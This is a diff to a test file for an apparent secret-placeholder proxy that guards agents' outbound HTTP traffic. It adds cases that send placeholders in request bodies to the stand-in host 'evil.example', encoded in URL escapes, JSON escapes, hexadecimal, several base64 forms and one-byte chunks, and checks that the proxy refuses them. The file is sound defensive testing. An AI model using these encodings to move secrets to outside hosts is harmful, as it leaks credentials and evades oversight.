@@ -80,6 +80,26 @@ test('also over HTTP/2', limits, async (context) => {
   session.close();
 });
 
+test(
+  'in a body to its own host a placeholder stays what it is: an agent that printed its environment can go on',
+  limits,
+  async (context) => {
+    const outside = await echoing(context);
+    const { client } = await outside.secured({ secrets });
+    client.write(request(`Authorization: Bearer ${placeholder}\r\n`, `KEY=${placeholder}`));
+    assert.match(await textOf(client), /^HTTP\/1\.1 200 /);
+    assert.ok(outside.heard.join('').includes(`KEY=${placeholder}`));
+    assert.equal(outside.heard.slice(1).join('').includes('sk-Real'), false);
+  },
+);
+
+test('and one of another secret does not pass there', limits, async (context) => {
+  const outside = await echoing(context);
+  const { client } = await outside.secured({ secrets });
+  client.write(request('', `KEY=${other.placeholder}`));
+  assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
+});
+
 describe('a placeholder that heads elsewhere is refused and nothing of it goes out', () => {
   const json = Array.from(placeholder)
     .map((letter) => `\\u00${letter.charCodeAt(0).toString(16)}`)
@@ -104,17 +124,25 @@ describe('a placeholder that heads elsewhere is refused and nothing of it goes o
     ['its own header in base64', request(`Authorization: Bearer ${base64('')}\r\n`)],
     ['its own header twice encoded', request(`Authorization: Basic ${Buffer.from(base64('')).toString('base64')}\r\n`)],
     ['its own header beside the plain one', request(`Authorization: Bearer ${placeholder} ${base64('')}\r\n`)],
-    ['a body', request('', `token=${placeholder}`)],
-    ['a body beside its own header', request(own, `token=${placeholder}`)],
-    ['a body, escaped for URLs', request('', `a=${percent}`)],
-    ['a body, escaped for URLs in part', request('', `a=${mixed}`)],
-    ['a body in JSON escapes', request('', `{"a":"${json}"}`)],
-    ['a body in hexadecimal', request('', Buffer.from(placeholder).toString('hex').toUpperCase())],
-    ['a body in base64', request('', base64(''))],
-    ['a body in base64, one later', request('', base64('x'))],
-    ['a body in base64, two later', request('', base64('xy'))],
-    ['a body in base64 of lines', request('', base64('xy').replace(/.{19}/g, '$&\r\n'))],
-    ['a body in base64 for URLs', request('', Buffer.from(`??>${placeholder}`).toString('base64url'))],
+    ['a body', request('', `token=${placeholder}`, '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body beside its own header', request(own, `token=${placeholder}`, '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body, escaped for URLs', request('', `a=${percent}`, '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body, escaped for URLs in part', request('', `a=${mixed}`, '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body in JSON escapes', request('', `{"a":"${json}"}`, '/', 'evil.example'), { host: 'evil.example' }],
+    [
+      'a body in hexadecimal',
+      request('', Buffer.from(placeholder).toString('hex').toUpperCase(), '/', 'evil.example'),
+      { host: 'evil.example' },
+    ],
+    ['a body in base64', request('', base64(''), '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body in base64, one later', request('', base64('x'), '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body in base64, two later', request('', base64('xy'), '/', 'evil.example'), { host: 'evil.example' }],
+    ['a body in base64 of lines', request('', base64('xy').replace(/.{19}/g, '$&\r\n'), '/', 'evil.example'), { host: 'evil.example' }],
+    [
+      'a body in base64 for URLs',
+      request('', Buffer.from(`??>${placeholder}`).toString('base64url'), '/', 'evil.example'),
+      { host: 'evil.example' },
+    ],
     ['another host', request(own, '', '/', 'evil.example'), { host: 'evil.example' }],
     ['a host of another secret', request(`Authorization: Bearer ${other.placeholder}\r\n`)],
   ];
@@ -153,8 +181,8 @@ describe('a placeholder that heads elsewhere is refused and nothing of it goes o
   });
   test('a body, one byte at a time, after much else has gone out', limits, async (context) => {
     const outside = await echoing(context);
-    const { client } = await outside.secured({ secrets });
-    client.write('POST / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n');
+    const { client } = await outside.secured({ secrets, host: 'evil.example' });
+    client.write('POST / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n');
     const chunk = (text: string): void => void client.write(`${text.length.toString(16)}\r\n${text}\r\n`);
     chunk('x'.repeat(200_000));
     for (const letter of placeholder) {
